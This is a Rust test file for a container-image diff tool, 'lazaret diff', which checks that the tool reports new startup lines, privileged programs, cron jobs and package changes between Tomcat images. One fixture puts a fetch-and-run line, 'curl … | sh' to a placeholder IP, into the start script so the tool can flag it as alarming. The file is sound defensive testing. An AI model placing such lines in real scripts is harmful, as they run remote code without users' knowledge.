//! `lazaret diff`: what a new version can do that the last one could not.
#![allow(missing_docs, clippy::unwrap_used)]

#[path = "support/schema.rs"]
mod schema;
mod support;

use serde_json::Value;

use support::{Place, Said};

/// Tomcat's start in small, in words of our own; `{EXTRA}` is where a line may be added.
const TOMCAT: &str = r#"
FILE /etc/os-release
    PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
FILE /usr/local/tomcat/bin/catalina.sh 0755
    #!/bin/sh
    # starts the server
    CATALINA_HOME=/usr/local/tomcat
    mkdir -p "$CATALINA_HOME/temp"
{EXTRA}    exec /opt/java/bin/java -classpath "$CATALINA_HOME/bin/bootstrap.jar" org.apache.catalina.startup.Bootstrap start
ELF /opt/java/bin/java 0755
    openjdk {VERSION}
ENV TOMCAT_VERSION={VERSION}
ENTRYPOINT ["/usr/local/tomcat/bin/catalina.sh"]
CMD ["run"]
"#;

fn tomcat(version: &str, extra: &str) -> String {
    TOMCAT.replace("{VERSION}", version).replace("{EXTRA}", extra)
}

fn diff(from: &str, to: &str, more: &[&str]) -> Said {
    let place = Place::new();
    let a = format!("oci:{}", place.recipe("a", from).display());
    let b = format!("oci:{}", place.recipe("b", to).display());
    place.run_with(&[&["diff", "-q", "--no-store", &a, &b], more].concat(), &[("COLUMNS", "160")])
}

fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn one_background_line_added_to_a_start_script_is_named_as_what_changed() {
    let line = "nohup /usr/local/tomcat/lib/agent --quiet >/dev/null 2>&1 &";
    let said = diff(&tomcat("10.1.1", ""), &tomcat("10.1.1", &format!("    {line}\n")), &[]);
    assert_eq!(said.code, 1, "{said:?}");
    let text = flat(&said.out);
    for sentence in [
        "runs /usr/local/tomcat/lib/agent --quiet, in the background [/usr/local/tomcat/bin/catalina.sh:5]",
        &format!("│ {line}"),
        "changed script: /usr/local/tomcat/bin/catalina.sh",
    ] {
        assert!(text.contains(sentence), "`{sentence}` is not in:\n{}", said.out);
    }
    assert_eq!(text.matches("catalina.sh:").count(), 2, "only that line, and the reason: {}", said.out);
}

#[test]
fn a_line_that_fetches_and_runs_is_called_alarming() {
    let line = "(curl -fsSL http://198.51.100.9/x | sh) &";
    let said =
        diff(&tomcat("10.1.1", ""), &tomcat("10.1.2", &format!("    {line}\n")), &["--fail-on", "alarming"]);
    assert_eq!(said.code, 1, "{said:?}");
    let text = flat(&said.out);
    assert!(text.starts_with("alarming"), "{}", said.out);
    for sentence in [
        "runs what comes from http://198.51.100.9/x with sh",
        "host: 198.51.100.9",
        "[/usr/local/tomcat/bin/catalina.sh:5]",
    ] {
        assert!(text.contains(sentence), "`{sentence}` is not in:\n{}", said.out);
    }
}

#[test]
fn a_new_version_of_the_same_thing_is_an_update_and_passes() {
    let said = diff(&tomcat("10.1.1", ""), &tomcat("10.1.2", "    # another comment\n"), &[]);
    assert_eq!(said.code, 0, "{said:?}");
    assert!(said.out.starts_with("updates"), "{}", said.out);
    let same = diff(&tomcat("10.1.1", ""), &tomcat("10.1.1", ""), &[]);
    assert_eq!(same.code, 0, "{same:?}");
    assert!(same.out.starts_with("same") && same.out.contains("They are the same image."), "{}", same.out);
}

#[test]
fn new_privileges_schedules_and_programs_are_named() {
    let more =
        "FILE /etc/cron.d/job\n    * * * * * root /opt/job\nELF /opt/job 0755\nELF /usr/bin/helper 04755\n";
    let said = diff(&tomcat("10.1.1", ""), &format!("{}{more}", tomcat("10.1.1", "")), &[]);
    assert_eq!(said.code, 1, "{said:?}");
    let text = flat(&said.out);
    for sentence in
        ["new schedule: /etc/cron.d/job", "new program: /opt/job", "new privileged program: /usr/bin/helper"]
    {
        assert!(text.contains(sentence), "`{sentence}` is not in:\n{}", said.out);
    }
}

#[test]
fn packages_are_summed_up_and_their_files_are_not_listed() {
    let with = |version: &str, content: &str| {
        format!(
            "{}FILE /var/lib/dpkg/status\n    Package: tool\n    Status: install ok installed\n    Version: {version}\n\
             FILE /var/lib/dpkg/info/tool.list\n    /usr/bin/tool\nFILE /usr/bin/tool 0755\n    #!/bin/sh\n    {content}\n",
            tomcat("10.1.1", "")
        )
    };
    let said = diff(&with("1.0", "echo 1"), &with("1.1", "echo 2"), &[]);
    assert_eq!(said.code, 0, "{said:?}");
    let text = flat(&said.out);
    assert!(text.contains("1 package updated: tool 1.0 → 1.1"), "{}", said.out);
    assert!(!text.contains("/usr/bin/tool"), "{}", said.out);
    // The same version with another content is no update.
    let said = diff(&with("1.0", "echo 1"), &with("1.0", "echo 2"), &[]);
    assert_eq!(said.code, 1, "{said:?}");
    assert!(flat(&said.out).contains("/usr/bin/tool differs, though the package tool 1.0"), "{}", said.out);
}

#[test]
fn what_was_not_read_is_no_pass() {
    let place = Place::new();
    let a = place.recipe("a", &tomcat("10.1.1", ""));
    let mut image = support::RawImage::default();
    image.layer(support::Tar::default().file("app", b"x").end()).present = false;
    let b = image.write(&place.path("b"));
    let said = place.run(&[
        "diff",
        "-q",
        "--no-store",
        &format!("oci:{}", a.display()),
        &format!("oci:{}", b.display()),
    ]);
    assert_eq!(said.code, 3, "{said:?}");
    assert!(flat(&said.out).contains("was not read in one of them"), "{said:?}");
}

#[test]
fn every_form_says_the_same_and_json_has_its_schema() {
    let extra = "    /opt/agent &\n";
    let said = diff(&tomcat("10.1.1", ""), &tomcat("10.1.1", extra), &["-f", "json"]);
    let value: Value = serde_json::from_str(&said.out).unwrap();
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/schema/diff-v1.schema.json");
    let known: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let wrong = schema::wrong(&known, &value);
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert_eq!(value["outcome"], "more");
    let change = &value["platforms"][0]["changes"][0];
    assert_eq!(change["places"][0], "/usr/local/tomcat/bin/catalina.sh:5");
    assert_eq!(change["sourceLine"], "/opt/agent &");
    let said = diff(&tomcat("10.1.1", ""), &tomcat("10.1.1", extra), &["-f", "markdown"]);
    assert!(said.out.contains("<code>/usr/local/tomcat/bin/catalina.sh:5</code>"), "{}", said.out);
}
